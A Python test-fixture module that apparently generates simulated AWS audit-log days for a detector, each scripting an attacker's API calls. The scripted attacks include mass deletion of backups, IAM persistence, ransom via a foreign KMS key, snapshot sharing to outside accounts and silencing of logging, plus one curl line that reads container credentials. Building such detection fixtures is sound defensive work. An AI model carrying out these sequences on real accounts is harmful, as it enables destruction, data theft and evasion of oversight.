"""Days of attacks as reports of 2024 to 2026 tell them, one service after the other."""

from __future__ import annotations

import json
from typing import Any

from tests.days.intrusions import FOREIGN, TOR, policy, through
from tests.days.recorder import (
    ACCOUNT,
    BOTO,
    CLI,
    REGION,
    STRANGER,
    TERRAFORM,
    Day,
    function,
    instance,
    person,
    role,
    user,
)

ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
KEY = f"arn:aws:kms:{REGION}:{ACCOUNT}:key/11111111-2222-3333-4444-555555555555"
THIEF = f"arn:aws:kms:{REGION}:{STRANGER}:key/99999999-8888-7777-6666-555555555555"


def wipe_by_terraform() -> Day:
    """Somebody with the pipeline's keys destroys it all, and says Terraform."""
    day = Day(3)
    by = day.actor(user("ci-deploy"), address=TOR, agent=TERRAFORM)
    for n in range(8):
        by(
            "rds.DeleteDBInstance",
            {
                "dBInstanceIdentifier": f"db{n}",
                "skipFinalSnapshot": True,
                "deleteAutomatedBackups": True,
            },
        )
    for n in range(12):
        by("dynamodb.DeleteTable", {"tableName": f"orders-{n}"})
    for n in range(15):
        by("ec2.DeleteSnapshot", {"snapshotId": f"snap-0{n:016x}"})
    for n in range(6):
        by("s3.DeleteBucket", {"bucketName": f"shop-data-{n}"})
    vault = {"backupVaultName": "prod"}
    for n in range(4):
        point = f"arn:aws:backup:{REGION}:{ACCOUNT}:recovery-point:{n}"
        by("backup.DeleteRecoveryPoint", {**vault, "recoveryPointArn": point})
    by("backup.DeleteBackupVaultLockConfiguration", vault)
    by("backup.DeleteBackupVault", vault)
    by("eks.DeleteCluster", {"name": "prod"})
    return day


def admin_by_stack() -> Day:
    """A stolen key makes a stack set that makes an administrator."""
    day = Day(4)
    thief = user("jenkins")
    by = day.actor(thief, address=TOR, agent=BOTO)
    by("sts.GetCallerIdentity")
    by(
        "cloudformation.CreateStack",
        {"stackName": "infra-fix", "capabilities": ["CAPABILITY_NAMED_IAM"]},
    )
    made = through(day, "cloudformation", thief)
    made("iam.CreateUser", {"userName": "svc-health"})
    made("iam.AttachUserPolicy", {"userName": "svc-health", "policyArn": ADMIN})
    made(
        "iam.CreateAccessKey",
        {"userName": "svc-health"},
        responseElements={"accessKey": {"userName": "svc-health", "status": "Active"}},
    )
    trust = policy(Principal={"AWS": FOREIGN}, Action="sts:AssumeRole", Resource=None)
    made("iam.CreateRole", {"roleName": "support", "assumeRolePolicyDocument": trust})
    made("iam.AttachRolePolicy", {"roleName": "support", "policyArn": ADMIN})
    return day


def console_persistence() -> Day:
    """A phished session in the console leaves a user, a device and a key."""
    day = Day(21)
    by = day.console(person("carol", "AdministratorAccess"), address=TOR)
    by("iam.CreateUser", {"userName": "backup-svc"})
    by("iam.CreateLoginProfile", {"userName": "backup-svc"})
    by("iam.AddUserToGroup", {"userName": "backup-svc", "groupName": "Administrators"})
    by("iam.CreateVirtualMFADevice", {"virtualMFADeviceName": "backup-svc"})
    by(
        "iam.EnableMFADevice",
        {"userName": "backup-svc", "serialNumber": "arn:aws:iam::1:mfa/backup-svc"},
    )
    by(
        "iam.CreateAccessKey",
        {"userName": "backup-svc"},
        responseElements={"accessKey": {"userName": "backup-svc"}},
    )
    by("iam.UpdateAccountPasswordPolicy", {"minimumPasswordLength": 6})
    return day


def chained_roles() -> Day:
    """A role assumes another, and that an administrator's, to reach the data."""
    day = Day(2)
    first = day.actor(role("app", "i-0123"), address=TOR, agent=CLI)
    first("sts.GetCallerIdentity")
    first.each("iam: ListRoles ListAttachedRolePolicies GetAccountAuthorizationDetails")
    for name in ("ops", "deploy", "OrganizationAccountAccessRole"):
        first(
            "sts.AssumeRole",
            {"roleArn": f"arn:aws:iam::{ACCOUNT}:role/{name}", "roleSessionName": "x"},
            error="" if name == "deploy" else "AccessDenied",
        )
    second = day.actor(role("deploy", "x"), address=TOR, agent=CLI)
    trust = policy(Principal={"AWS": FOREIGN}, Action="sts:AssumeRole", Resource=None)
    second("iam.UpdateAssumeRolePolicy", {"roleName": "admin", "policyDocument": trust})
    second(
        "sts.AssumeRole",
        {"roleArn": f"arn:aws:iam::{ACCOUNT}:role/admin", "roleSessionName": "y"},
    )
    third = day.actor(role("admin", "y"), address=TOR, agent=CLI)
    for n in range(30):
        third("secretsmanager.GetSecretValue", {"secretId": f"prod/db/{n}"})
    return day


def ransom_by_policy() -> Day:
    """Buckets forget their versions, expire in a day, and a note is left."""
    day = Day(1)
    by = day.actor(user("s3-sync"), address=TOR, agent=CLI)
    by.each("s3: ListBuckets")
    for n in range(6):
        bucket = {"bucketName": f"customer-files-{n}"}
        by(
            "s3.PutBucketVersioning",
            {**bucket, "VersioningConfiguration": {"Status": "Suspended"}},
        )
        rule = {"ID": "x", "Status": "Enabled", "Expiration": {"Days": 1}}
        rule |= {"Filter": {"Prefix": ""}}
        by(
            "s3.PutBucketLifecycle",
            {**bucket, "LifecycleConfiguration": {"Rule": rule}},
        )
        by.objects("PutObject", f"customer-files-{n}", ["HOW_TO_RECOVER_FILES.txt"])
    return day


def ransom_by_foreign_key() -> Day:
    """Objects are put again under a key of the thief's account, then it is gone."""
    day = Day(1)
    by = day.actor(user("s3-sync"), address=TOR, agent=BOTO)
    sse = {
        "x-amz-server-side-encryption": "aws:kms",
        "x-amz-server-side-encryption-aws-kms-key-id": THIEF,
    }
    names = [f"2026/{n}.parquet" for n in range(60)]
    by.objects("GetObject", "lake", names)
    by.objects("CopyObject", "lake", names, parameters=sse)
    by(
        "s3.PutBucketEncryption",
        {
            "bucketName": "lake",
            "ServerSideEncryptionConfiguration": {
                "Rule": {
                    "ApplyServerSideEncryptionByDefault": {
                        "SSEAlgorithm": "aws:kms",
                        "KMSMasterKeyID": THIEF,
                    }
                }
            },
        },
    )
    return day


def pool_taken_over() -> Day:
    """An app's customers fall: trigger, own provider, client without secret, admin."""
    day = Day(5)
    pool = {"userPoolId": f"{REGION}_Shop12345"}
    by = day.actor(role("api", "session"), address=TOR, agent=BOTO)
    by.each("cognito-idp: ListUserPools DescribeUserPool ListUserPoolClients")
    evil = f"arn:aws:lambda:{REGION}:{STRANGER}:function:x"
    by(
        "cognito-idp.UpdateUserPool",
        {**pool, "lambdaConfig": {"preTokenGeneration": evil, "customMessage": evil}},
    )
    by(
        "cognito-idp.CreateIdentityProvider",
        {**pool, "providerName": "corp", "providerType": "OIDC"},
    )
    by(
        "cognito-idp.AdminLinkProviderForUser",
        {**pool, "destinationUser": {"providerAttributeValue": "ceo"}},
    )
    by("cognito-idp.AdminUpdateUserAttributes", {**pool, "username": "ceo"})
    by(
        "cognito-idp.AdminSetUserPassword",
        {**pool, "username": "ceo", "permanent": True},
    )
    by("cognito-idp.AdminDisableUser", {**pool, "username": "security"})
    return day


def models_abused() -> Day:
    """A leaked key runs models in several Regions, with logging off."""
    day = Day(6)
    by = day.actor(user("translate-app"), address=TOR, agent=BOTO)
    by("sts.GetCallerIdentity")
    for region in ("us-east-1", "us-west-2", "eu-west-3"):
        by("bedrock.ListFoundationModels", awsRegion=region)
        by("bedrock.GetModelInvocationLoggingConfiguration", awsRegion=region)
        by(
            "bedrock.InvokeModel",
            {"modelId": "anthropic.claude-opus-4"},
            error="AccessDeniedException",
            awsRegion=region,
        )
    by("bedrock.PutFoundationModelEntitlement", {"modelId": "anthropic.claude-opus-4"})
    by("bedrock.PutUseCaseForModelAccess", {"formData": "x"})
    by("bedrock.DeleteModelInvocationLoggingConfiguration")
    by(
        "iam.CreateServiceSpecificCredential",
        {"userName": "translate-app", "serviceName": "bedrock.amazonaws.com"},
    )
    for _ in range(40):
        by("bedrock.InvokeModel", {"modelId": "anthropic.claude-opus-4"})
    return day


def mail_abused() -> Day:
    """A leaked key turns the account into a mail gun."""
    day = Day(7)
    by = day.actor(user("newsletter"), address=TOR, agent=BOTO)
    for region in ("us-east-1", "us-west-2", "eu-west-1", "ap-southeast-2"):
        by("ses.GetSendQuota", awsRegion=region)
        by("ses.GetAccount", awsRegion=region)
        by("ses.ListIdentities", awsRegion=region)
    by(
        "ses.PutAccountDetails",
        {"productionAccessEnabled": True, "mailType": "MARKETING"},
    )
    by("ses.VerifyDomainIdentity", {"domain": "paypa1-billing.example"})
    by("ses.CreateEmailIdentity", {"emailIdentity": "paypa1-billing.example"})
    by("ses.VerifyEmailIdentity", {"emailAddress": "x@paypa1-billing.example"})
    by("ses.UpdateAccountSendingEnabled", {"enabled": True})
    by("iam.CreateUser", {"userName": "ses-smtp-user.20261120"})
    by(
        "iam.AttachUserPolicy",
        {
            "userName": "ses-smtp-user.20261120",
            "policyArn": "arn:aws:iam::aws:policy/AmazonSESFullAccess",
        },
    )
    by(
        "iam.CreateAccessKey",
        {"userName": "ses-smtp-user.20261120"},
        responseElements={"accessKey": {"userName": "ses-smtp-user.20261120"}},
    )
    return day


def organization_left() -> Day:
    """The management account is lost: trusted access, policies, members, root."""
    day = Day(3)
    by = day.actor(role("OrgAdmin", "x"), address=TOR, agent=CLI)
    by("organizations.DetachPolicy", {"policyId": "p-12345678", "targetId": "r-abcd"})
    by(
        "organizations.DisablePolicyType",
        {"rootId": "r-abcd", "policyType": "SERVICE_CONTROL_POLICY"},
    )
    by(
        "organizations.RegisterDelegatedAdministrator",
        {"accountId": "444455556666", "servicePrincipal": "sso.amazonaws.com"},
    )
    by("iam.EnableOrganizationsRootSessions")
    by(
        "sts.AssumeRoot",
        {
            "targetPrincipal": "111122223333",
            "taskPolicyArn": {
                "arn": "arn:aws:iam::aws:policy/root-task/S3UnlockBucketPolicy"
            },
        },
    )
    by("organizations.RemoveAccountFromOrganization", {"accountId": "111122223333"})
    by("organizations.InviteAccountToOrganization", {"target": {"id": STRANGER}})
    by("account.PutAlternateContact", {"alternateContactType": "SECURITY"})
    return day


def instance_credentials_stolen() -> Day:
    """The credentials of an instance come from elsewhere, and look around."""
    day = Day(4)
    who = instance("web")
    home = day.actor(who, address="10.0.1.20", agent=BOTO)
    for _ in range(3):
        home("ssm.GetParameter", {"name": "/web/config"})
    by = day.actor(who, address=TOR, agent=CLI)
    by("sts.GetCallerIdentity")
    by.each(
        "iam: ListUsers ListRoles GetAccountSummary s3: ListBuckets ec2:"
        " DescribeInstances DescribeSecurityGroups DescribeSnapshots rds:"
        " DescribeDBInstances secretsmanager: ListSecrets lambda: ListFunctions20150331"
    )
    by.each("iam: CreateUser CreateAccessKey", error="AccessDenied")
    by("secretsmanager.GetSecretValue", {"secretId": "prod/db"})
    return day


def directory_persistence() -> Day:
    """IAM Identity Center gets a user, a wide permission set and its assignment."""
    day = Day(22)
    by = day.actor(role("SSOAdmin", "x"), address=TOR, agent=CLI)
    store = {"identityStoreId": "d-1234567890"}
    hub = {"instanceArn": "arn:aws:sso:::instance/ssoins-1234567890abcdef"}
    by(
        "identitystore.CreateUser",
        {**store, "userName": "HIDDEN_DUE_TO_SECURITY_REASONS"},
    )
    by(
        "sso.CreatePermissionSet",
        {**hub, "name": "Support", "sessionDuration": "PT12H"},
    )
    arn = {**hub, "permissionSetArn": "arn:aws:sso:::permissionSet/ssoins-1/ps-1"}
    by("sso.AttachManagedPolicyToPermissionSet", {**arn, "managedPolicyArn": ADMIN})
    by(
        "sso.CreateAccountAssignment",
        {
            **arn,
            "targetId": ACCOUNT,
            "targetType": "AWS_ACCOUNT",
            "principalType": "USER",
            "principalId": "a",
        },
    )
    by(
        "sso-directory.UpdatePassword",
        {"userId": "u-1", "passwordMode": "OTP"},
    )
    by("sso-directory.DeleteMfaDeviceForUser", {"userId": "u-1", "deviceId": "d"})
    return day


def functions_poisoned() -> Day:
    """A layer of a stranger and an environment turn a function against its owner."""
    day = Day(3)
    by = day.actor(user("dev"), address=TOR, agent=CLI)
    by.each("lambda: ListFunctions20150331 ListLayers20181031")
    layer = f"arn:aws:lambda:{REGION}:{STRANGER}:layer:telemetry:3"
    by(
        "lambda.UpdateFunctionConfiguration20150331v2",
        {
            "functionName": "checkout",
            "layers": [layer],
            "environment": {"variables": {"AWS_LAMBDA_EXEC_WRAPPER": "/opt/x"}},
        },
    )
    by(
        "lambda.AddLayerVersionPermission20181031",
        {
            "layerName": "common",
            "principal": "*",
            "action": "lambda:GetLayerVersion",
        },
    )
    by(
        "lambda.UpdateFunctionCode20150331v2",
        {"functionName": "checkout", "s3Bucket": "evil", "s3Key": "x.zip"},
    )
    by(
        "lambda.AddPermission20150331v2",
        {
            "functionName": "checkout",
            "principal": STRANGER,
            "action": "lambda:InvokeFunction",
        },
    )
    by("lambda.CreateEventSourceMapping20150331", {"functionName": "checkout"})
    return day


def shells_in_containers() -> Day:
    """Exec is turned on, entered, and a task reads the credentials of others."""
    day = Day(5)
    by = day.actor(user("ops"), address=TOR, agent=CLI)
    by.each("ecs: ListClusters ListServices DescribeTasks")
    by(
        "ecs.UpdateService",
        {"cluster": "prod", "service": "api", "enableExecuteCommand": True},
    )
    for n in range(6):
        by(
            "ecs.ExecuteCommand",
            {
                "cluster": "prod",
                "task": f"t{n}",
                "command": "/bin/sh",
                "interactive": True,
            },
        )
    definition = {
        "family": "x",
        "taskRoleArn": f"arn:aws:iam::{ACCOUNT}:role/admin",
        "containerDefinitions": [
            {
                "name": "x",
                "command": [
                    "sh",
                    "-c",
                    "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
                ],
            }
        ],
    }
    by("ecs.RegisterTaskDefinition", definition)
    by("ecs.RunTask", {"cluster": "prod", "taskDefinition": "x"})
    return day


def fleet_by_documents() -> Day:
    """A document of the thief's runs everywhere, by tag and association."""
    day = Day(2)
    by = day.actor(user("ops"), address=TOR, agent=BOTO)
    by.each("ssm: DescribeInstanceInformation")
    by("ssm.CreateDocument", {"name": "Upd", "documentType": "Command"})
    by("ssm.ModifyDocumentPermission", {"name": "Upd", "accountIdsToAdd": ["All"]})
    by(
        "ssm.SendCommand",
        {
            "documentName": "AWS-RunShellScript",
            "targets": [{"key": "tag:env", "values": ["prod"]}],
        },
    )
    by(
        "ssm.CreateAssociation",
        {
            "name": "Upd",
            "targets": [{"key": "InstanceIds", "values": ["*"]}],
            "scheduleExpression": "rate(30 minutes)",
        },
    )
    by(
        "ssm.StartAutomationExecution",
        {"documentName": "AWSSupport-ResetAccess", "parameters": {}},
    )
    by("ssm.CreateActivation", {"iamRole": "ssm", "registrationLimit": 100})
    for n in range(5):
        by("ssm.StartSession", {"target": f"i-0a1b2c3d4e5f6071{n}"})
    return day


def disks_read() -> Day:
    """Snapshots are made and read block by block, or shared, or copied away."""
    day = Day(3)
    by = day.actor(user("backup"), address=TOR, agent=BOTO)
    by.each("ec2: DescribeVolumes DescribeSnapshots DescribeInstances")
    for n in range(4):
        by("ec2.CreateSnapshot", {"volumeId": f"vol-0{n:016x}"})
    data: dict[str, Any] = {"managementEvent": False, "eventCategory": "Data"}
    by("ebs.ListSnapshotBlocks", {"snapshotId": "snap-01"}, **data)
    for n in range(60):
        by("ebs.GetSnapshotBlock", {"snapshotId": "snap-01", "blockIndex": n}, **data)
    for n in range(3):
        by(
            "ec2.ModifySnapshotAttribute",
            {
                "snapshotId": f"snap-0{n}",
                "attributeType": "CREATE_VOLUME_PERMISSION",
                "createVolumePermission": {"add": {"items": [{"userId": STRANGER}]}},
            },
        )
    by(
        "rds.ModifyDBSnapshotAttribute",
        {
            "dBSnapshotIdentifier": "prod",
            "attributeName": "restore",
            "valuesToAdd": [STRANGER],
        },
    )
    by(
        "ram.CreateResourceShare",
        {"name": "x", "principals": [STRANGER], "allowExternalPrincipals": True},
    )
    by(
        "ec2.ModifyImageAttribute",
        {
            "imageId": "ami-0123",
            "attributeType": "launchPermission",
            "launchPermission": {"add": {"items": [{"group": "all"}]}},
        },
    )
    return day


def keys_destroyed() -> Day:
    """Keys are disabled and set to be deleted, their policies given away."""
    day = Day(4)
    by = day.actor(user("kms-admin"), address=TOR, agent=CLI)
    by.each("kms: ListKeys ListAliases")
    allowed = policy(Principal={"AWS": FOREIGN}, Action="kms:*")
    by("kms.PutKeyPolicy", {"keyId": KEY, "policyName": "default", "policy": allowed})
    by("kms.CreateGrant", {"keyId": KEY, "granteePrincipal": FOREIGN})
    for n in range(4):
        by("kms.DisableKey", {"keyId": f"{KEY[:-1]}{n}"})
        by(
            "kms.ScheduleKeyDeletion",
            {"keyId": f"{KEY[:-1]}{n}", "pendingWindowInDays": 7},
        )
    return day


def names_hijacked() -> Day:
    """A zone's records, its name servers and a domain go elsewhere."""
    day = Day(4)
    by = day.actor(user("dns"), address=TOR, agent=CLI)
    by.each("route53: ListHostedZones route53domains: ListDomains")
    change = {
        "action": "UPSERT",
        "resourceRecordSet": {"name": "login.example.com.", "type": "A", "tTL": 60},
    }
    by(
        "route53.ChangeResourceRecordSets",
        {"hostedZoneId": "Z1", "changeBatch": {"changes": [change]}},
    )
    by("route53domains.DisableDomainTransferLock", {"domainName": "example.com"})
    by("route53domains.RetrieveDomainAuthCode", {"domainName": "example.com"})
    by(
        "route53domains.UpdateDomainNameservers",
        {"domainName": "example.com", "nameservers": [{"name": "ns1.example.net"}]},
    )
    by("route53.DeleteQueryLoggingConfig", {"id": "q"})
    by("acm.RequestCertificate", {"domainName": "login.example.com"})
    by("acm.ExportCertificate", {"certificateArn": "arn"})
    return day


def lights_out() -> Day:
    """Each log and detector is weakened a little, none is deleted."""
    day = Day(3)
    by = day.actor(role("Platform", "x"), address=TOR, agent=TERRAFORM)
    selectors: list[dict[str, Any]] = [
        {
            "readWriteType": "ReadOnly",
            "includeManagementEvents": True,
            "dataResources": [],
        }
    ]
    by(
        "cloudtrail.PutEventSelectors",
        {"trailName": "org", "eventSelectors": selectors},
    )
    by(
        "cloudtrail.UpdateTrail",
        {"name": "org", "isMultiRegionTrail": False, "enableLogFileValidation": False},
    )
    by(
        "guardduty.UpdateDetector",
        {
            "detectorId": "d",
            "enable": True,
            "dataSources": {"s3Logs": {"enable": False}},
        },
    )
    by(
        "guardduty.CreateFilter",
        {"detectorId": "d", "name": "x", "action": "ARCHIVE", "findingCriteria": {}},
    )
    by("guardduty.CreateIPSet", {"detectorId": "d", "activate": True})
    by("config.StopConfigurationRecorder", {"configurationRecorderName": "default"})
    by("config.PutRetentionConfiguration", {"retentionPeriodInDays": 30})
    by("events.DisableRule", {"name": "guardduty-to-pager"})
    by("events.RemoveTargets", {"rule": "security-hub-to-pager", "ids": ["1"]})
    by("monitoring.DisableAlarmActions", {"alarmNames": ["root-login"]})
    by("logs.PutRetentionPolicy", {"logGroupName": "trail", "retentionInDays": 1})
    by("securityhub.BatchDisableStandards", {"standardsSubscriptionArns": ["arn"]})
    by("access-analyzer.DeleteAnalyzer", {"analyzerName": "org"})
    return day


def secrets_of_a_function_used() -> Day:
    """The credentials of a function's role work at a command line elsewhere."""
    day = Day(2)
    by = day.actor(function("webhook"), address=TOR, agent=CLI)
    by("sts.GetCallerIdentity")
    by.each("s3: ListBuckets iam: ListUsers dynamodb: ListTables")
    arn = f"arn:aws:dynamodb:{REGION}:{ACCOUNT}:table/customers"
    by(
        "dynamodb.ExportTableToPointInTime",
        {"tableArn": arn, "s3Bucket": "elsewhere", "s3BucketOwner": STRANGER},
    )
    by(
        "dynamodb.PutResourcePolicy",
        {
            "resourceArn": arn,
            "policy": json.dumps(
                {
                    "Statement": [
                        {
                            "Effect": "Allow",
                            "Principal": {"AWS": STRANGER},
                            "Action": "dynamodb:*",
                            "Resource": arn,
                        }
                    ]
                }
            ),
        },
    )
    return day
